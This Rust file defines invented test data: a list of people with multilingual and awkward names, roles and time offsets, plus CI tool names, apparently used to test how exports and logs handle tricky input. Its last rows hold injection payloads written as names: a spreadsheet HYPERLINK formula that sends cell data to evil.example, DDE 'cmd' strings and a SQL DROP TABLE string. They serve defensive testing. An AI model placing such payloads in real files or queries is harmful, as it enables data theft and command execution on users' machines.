//! Who acts: people of many languages, some with names that spreadsheets trip
//! over, and tools that act by a graph's key. All invented.

/// Somebody who acts.
pub struct Person {
    pub name: &'static str,
    /// Before the `@`.
    pub mailbox: &'static str,
    pub role: &'static str,
    /// Hours between their clock and UTC.
    pub offset_hours: i64,
}

const fn person(
    name: &'static str,
    mailbox: &'static str,
    role: &'static str,
    offset_hours: i64,
) -> Person {
    Person {
        name,
        mailbox,
        role,
        offset_hours,
    }
}

/// The busiest first.
pub const PEOPLE: [Person; 62] = [
    person("Ana Beatriz Conceição", "ana.conceicao", "ORG_ADMIN", -3),
    person("Jürgen Groß", "juergen.gross", "GRAPH_ADMIN", 2),
    person("Siobhán Ní Bhriain", "siobhan", "CONTRIBUTOR", 1),
    person("王小明", "wang.xiaoming", "GRAPH_ADMIN", 8),
    person("Priya Raghunathan", "priya.r", "ORG_ADMIN", 5),
    person("Łukasz Żółkiewski", "lukasz.z", "CONTRIBUTOR", 2),
    person("Nguyễn Thị Minh Khai", "khai.nguyen", "CONTRIBUTOR", 7),
    person("O'Brien, Patrick", "patrick.obrien", "CONTRIBUTOR", 1),
    person("İpek Yıldırım", "ipek.yildirim", "GRAPH_ADMIN", 3),
    person("佐藤 美咲", "misaki.sato", "CONTRIBUTOR", 9),
    person("José Ángel Núñez Peña", "jose.nunez", "CONTRIBUTOR", -5),
    person("Мария Соколова", "maria.sokolova", "CONTRIBUTOR", 3),
    person(
        "Dwayne \"Rocky\" Johnson-Smith",
        "dwayne.js",
        "GRAPH_ADMIN",
        -7,
    ),
    person("فاطمة الزهراء", "fatima.z", "CONTRIBUTOR", 1),
    person("Søren Kjærgård", "soren.kjaergaard", "CONTRIBUTOR", 2),
    person("שרה לוי", "sara.levi", "DOCUMENTER", 3),
    person("김민준", "minjun.kim", "CONTRIBUTOR", 9),
    person("Chloé Lefèvre-Dubois", "chloe.lefevre", "ORG_ADMIN", 2),
    person("Zoltán Kőszegi", "zoltan.koszegi", "CONTRIBUTOR", 2),
    person("Oluwaseun Adébáyọ̀", "seun.adebayo", "CONTRIBUTOR", 1),
    person("Θεοδώρα Παπαδοπούλου", "theodora.p", "GRAPH_ADMIN", 3),
    person(
        "Márcio Gonçalves da Silva",
        "marcio.goncalves",
        "GRAPH_ADMIN",
        -3,
    ),
    person("Grace Okonkwo", "grace.okonkwo", "CONTRIBUTOR", 1),
    person("Björk Guðmundsdóttir", "bjork.g", "CONTRIBUTOR", 0),
    person("Emily Chen", "emily.chen", "CONTRIBUTOR", -7),
    person("রহিমা খাতুন", "rahima.khatun", "CONTRIBUTOR", 6),
    person(
        "Michael O’Sullivan",
        "michael.osullivan",
        "BILLING_MANAGER",
        1,
    ),
    person("สมชาย ใจดี", "somchai.jaidee", "CONTRIBUTOR", 7),
    person("Giulia D'Angelo", "giulia.dangelo", "DOCUMENTER", 2),
    person("Александр Петренко", "oleksandr.petrenko", "CONTRIBUTOR", 3),
    person("अनुष्का शर्मा", "anushka.sharma", "CONTRIBUTOR", 5),
    person("Straße, Günther", "guenther.strasse", "GRAPH_ADMIN", 2),
    person("Mei-Ling Ødegård", "meiling.odegard", "CONTRIBUTOR", 2),
    person("Tomáš Dvořák", "tomas.dvorak", "CONTRIBUTOR", 2),
    person(
        "Ekaterina \"Kate\" Volkova",
        "kate.volkova",
        "GRAPH_ADMIN",
        4,
    ),
    person("Ștefan Țăranu", "stefan.taranu", "CONTRIBUTOR", 3),
    person("Ahmed Bin Khalid, Jr.", "ahmed.khalid", "CONTRIBUTOR", 4),
    person("陳大文", "chan.taiman", "CONTRIBUTOR", 8),
    person("Zoë van der Meer", "zoe.vandermeer", "CONTRIBUTOR", 2),
    person("Ian McAllister", "ian.mcallister", "CONTRIBUTOR", -4),
    person("Ñusta Quispe Mamani", "nusta.quispe", "CONTRIBUTOR", -5),
    person("محمد رضا کریمی", "reza.karimi", "GRAPH_ADMIN", 3),
    person("Kwame Nkrumah-Mensah", "kwame.nm", "CONTRIBUTOR", 0),
    person("Āris Bērziņš", "aris.berzins", "CONTRIBUTOR", 3),
    person("Jean-François L'Écuyer", "jf.lecuyer", "CONTRIBUTOR", -4),
    person(
        "François Müller-Lüdenscheidt",
        "f.mueller",
        "BILLING_MANAGER",
        2,
    ),
    person("გიორგი ბერიძე", "giorgi.beridze", "CONTRIBUTOR", 4),
    person("Արամ Խաչատրյան", "aram.khachatryan", "CONTRIBUTOR", 4),
    person("Lê Văn Đức", "duc.le", "CONTRIBUTOR", 7),
    person("Aino Mäkelä", "aino.makela", "CONTRIBUTOR", 3),
    person("Null Nuller", "null", "CONTRIBUTOR", -5),
    person("Sam 🚀 Rivera", "sam.rivera", "CONTRIBUTOR", -6),
    person(
        "田中 一郎 / Ichiro Tanaka",
        "ichiro.tanaka",
        "GRAPH_ADMIN",
        9,
    ),
    person(
        "Renée\nAcme Contractors",
        "renee.contractor",
        "CONTRIBUTOR",
        -5,
    ),
    person(
        "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Open report\")",
        "h4ck3r",
        "CONTRIBUTOR",
        3,
    ),
    person("+cmd|' /C calc'!A0", "plus.cmd", "CONTRIBUTOR", 3),
    person("@SUM(1+1)*cmd|' /C calc'!A0", "at.sum", "CONTRIBUTOR", 3),
    person("-2+3", "minus.two", "CONTRIBUTOR", 0),
    person("-", "dash", "CONTRIBUTOR", 0),
    person(
        "Robert'); DROP TABLE users;--",
        "bobby.tables",
        "CONTRIBUTOR",
        -6,
    ),
    person("  Padded Name ", "padded.name", "CONTRIBUTOR", 1),
    person("<b>Bold</b> & Co.", "bold", "CONTRIBUTOR", 1),
];

/// Tools that act by a graph's key.
pub const TOOLS: [&str; 6] = [
    "rover-ci",
    "github-actions",
    "argo-deployer",
    "terraform",
    "schema-proposals-bot",
    "nightly-contract-builder",
];

/// How often the person at `place` acts, compared to the others: a few do much.
pub fn activity(place: usize) -> u64 {
    // The last are strange names, which a few rows of suffice.
    if place < 53 {
        6 + 1200 / (place as u64 + 6)
    } else {
        18
    }
}
